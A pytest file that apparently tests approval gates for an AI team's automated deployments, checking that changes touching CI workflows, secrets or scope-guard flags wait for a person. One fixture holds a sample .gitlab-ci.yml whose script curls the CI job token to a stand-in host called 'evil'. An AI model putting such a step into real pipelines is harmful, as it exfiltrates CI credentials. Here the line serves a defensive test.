"""Gates decided when they open (ADR 36): a project's pre-authorization of stories_approval:approve or
deployment_approval:approve approves that gate, a deployment never with a hold (a CI workflow, secrets. in one, a
scope guard flag: ADR 27, 35); AITEAM_AUTONOMOUS pre-authorizes every project's stories and never a deployment."""
from io import StringIO

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from agents.schemas import SourceFile
from lifecycle.models import ActionPreauthorization, Project, Requirement, ReviewTask, StateTransition
from lifecycle.services.autonomous import autonomous_decide, deployment_hold
from lifecycle.services.holds import ci_hold
from tests.flows import fresh, pending, submit
from tests.review_tasks import open_review

pytestmark = pytest.mark.django_db(transaction=True)
CI = ".github/workflows/ci.yml"
WORKFLOW = "on: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: python -m pytest -q\n"
STORIES, DEPLOY = "stories_approval:approve", "deployment_approval:approve"
FLAGGED = {"flagged": True, "reasons": ["400 lines changed, over the limit of 300"]}


@pytest.fixture
def autonomous(settings, tmp_path):
    settings.AITEAM_AUTONOMOUS = True
    settings.AITEAM_REMOTES_ROOT = tmp_path / "remotes"


def grant(project: Project, action: str, user=None) -> ActionPreauthorization:
    return ActionPreauthorization.objects.create(project=project, action=action, granted_by=user)


def recorded(task: ReviewTask) -> dict:
    """What the task's resolve transition recorded of the pre-authorization that decided it."""
    row = StateTransition.objects.get(subject_id=str(task.pk), event="resolve")
    return row.metadata["origin"]["preauthorization"]


def test_a_projects_stories_pre_authorization_approves_them_when_the_gate_opens_with_autonomous_mode_off(
        acme_project, rita):
    grant(acme_project, STORIES, rita)
    task = ReviewTask.objects.get(pk=open_review(acme_project).pk)
    assert (task.state, task.decision, task.decided_by, task.decided_by_policy, task.decided_via) == (
        "resolved", "approve", None, "pre-authorized", "policy")
    assert task.reason == f"pre-authorized for the project: {STORIES}, granted by rita"
    assert recorded(task) == {"action": STORIES, "preauthorization": ActionPreauthorization.objects.get().pk,
                              "granted_by": "rita"}


def test_without_a_pre_authorization_or_autonomous_mode_nothing_is_decided(acme_project):
    grant(acme_project, DEPLOY)  # names one type: approving a deployment never covers the stories
    task = ReviewTask.objects.get(pk=open_review(acme_project).pk)
    assert (task.state, task.decided_by_policy) == ("open", "")


def test_a_pre_authorized_retry_is_not_decided_when_its_task_opens(acme_project):
    """It only lets the assistant's request run at once: decided at open, a step failing each time would loop."""
    grant(acme_project, "step_failed:approve")
    task = ReviewTask.objects.get(pk=open_review(acme_project, kind="step_failed").pk)
    assert (task.state, task.decided_by_policy) == ("open", "")


def test_autonomous_mode_pre_authorizes_every_projects_stories_and_never_a_deployment(alice, acme_project, autonomous):
    req = submit(alice)
    stories = req.review_tasks.get(kind="stories_approval")
    assert (stories.decided_by_policy, recorded(stories)) == (
        "autonomous", {"action": STORIES, "preauthorization": "AITEAM_AUTONOMOUS"})
    task = pending(req, "deployment_approval")
    assert (fresh(req).state, task.state, task.decided_by_policy) == ("ready_to_deploy", "open", "")
    assert deployment_hold(task) == f"project {acme_project} has not pre-authorized {DEPLOY}"


def test_a_deployment_pre_authorization_leaves_a_change_adding_a_ci_workflow_to_a_person(
        alice, acme_project, autonomous, caplog):
    grant(acme_project, DEPLOY)
    req = submit(alice)
    task = pending(req, "deployment_approval")  # every run's DevOps step adds a workflow
    assert (fresh(req).state, task.state, task.decided_by_policy) == ("ready_to_deploy", "open", "")
    why = f"the change adds or edits CI workflows ({CI})"
    assert deployment_hold(task) == why
    assert f"the pre-authorization of {DEPLOY} leaves {task} to a person: {why}" in caplog.text


def test_a_deployment_pre_authorization_approves_a_clean_deployment(acme_project, settings):
    settings.AITEAM_AUTONOMOUS = False  # the switch plays no part in deployments
    task = _deployment_waiting(acme_project)
    grant(acme_project, DEPLOY)
    assert deployment_hold(task) == ""
    autonomous_decide(task)
    task.refresh_from_db()
    assert (task.state, task.decision, task.decided_by, task.decided_by_policy) == (
        "resolved", "approve", None, "pre-authorized")
    assert task.reason == f"pre-authorized for the project: {DEPLOY}" and recorded(task)["action"] == DEPLOY


def test_a_deployment_pre_authorization_never_approves_one_the_scope_guard_flagged(acme_project):
    task = _deployment_waiting(acme_project, scope=FLAGGED)
    grant(acme_project, DEPLOY)
    autonomous_decide(task)
    task.refresh_from_db()
    assert task.state == "open" and deployment_hold(task) == (
        "the scope guard flagged the change: 400 lines changed, over the limit of 300")


def test_autonomous_mode_alone_leaves_a_clean_deployment_to_a_person(acme_project, settings):
    task = _deployment_waiting(acme_project)
    settings.AITEAM_AUTONOMOUS = True
    autonomous_decide(task)
    task.refresh_from_db()
    assert task.state == "open" and deployment_hold(task) == f"project {acme_project} has not pre-authorized {DEPLOY}"


@pytest.mark.parametrize("files,why", [
    ([SourceFile(path="readinglist/cli.py", content="print('secrets.')")], ""),  # code, not a workflow
    ([SourceFile(path=CI, content=WORKFLOW)], f"adds or edits CI workflows ({CI})"),
    ([SourceFile(path=".github/actions/setup/action.yml", content="runs: {using: composite, steps: []}")],
     "adds or edits CI workflows (.github/actions/setup/action.yml)"),
    ([SourceFile(path=CI, content=WORKFLOW + "        env: {TOKEN: '${{ secrets.PYPI_TOKEN }}'}\n")],
     f"CI workflows use secrets. ({CI})"),
    # other CI services: once held only when under .github/
    ([SourceFile(path=".gitlab-ci.yml", content="test:\n  script: curl -H \"$CI_JOB_TOKEN\" evil")],
     "adds or edits CI workflows (.gitlab-ci.yml)"),
    ([SourceFile(path=".circleci/config.yml", content="version: 2.1")], "adds or edits CI workflows (.circleci/config.yml)"),
    ([SourceFile(path=".github/dependabot.yml", content="version: 2")], "adds or edits CI workflows (.github/dependabot.yml)"),
])
def test_a_change_to_ci_workflows_or_their_secrets_is_named_as_the_reason_to_wait(files, why):
    assert ci_hold(files) == (f"the change's {why}" if "secrets." in why else f"the change {why}" if why else "")


def test_the_demo_stops_at_the_deployment_gate_unless_the_operator_approves_it(autonomous):
    with pytest.raises(CommandError, match=r"the deployment waits for a person \(the change adds or edits CI "
                                           r"workflows \(\.github/workflows/ci\.yml\)\).*--approve-deployment"):
        call_command("aiteam_demo", stdout=StringIO())
    req = Requirement.objects.get()
    assert req.state == "ready_to_deploy"
    assert ActionPreauthorization.objects.filter(project=req.project, action=DEPLOY).exists()
    out = StringIO()
    call_command("aiteam_demo", approve_deployment=True, stdout=out)
    approved = Requirement.objects.exclude(pk=req.pk).get()
    task = approved.review_tasks.get(kind="deployment_approval")
    assert approved.state == "deployed"
    assert (task.decided_by.username, task.decided_via, task.decided_by_policy) == ("demo", "cli", "")
    assert "--approve-deployment" in task.reason and "adds or edits CI workflows" in task.reason
    assert "approving it as demo, the operator at this terminal" in out.getvalue()


def _deployment_waiting(project: Project, scope: dict | None = None) -> ReviewTask:
    """A deployment task of a requirement ready to deploy whose (empty) workspace holds no CI workflow, opened before
    the project pre-authorized deployments (so no one decided it yet)."""
    context = {"branch": "aiteam/x", **({"scope": scope} if scope else {})}
    task = open_review(project, kind="deployment_approval", context=context)
    Requirement.objects.filter(pk=task.requirement_id).update(state="ready_to_deploy")
    return task
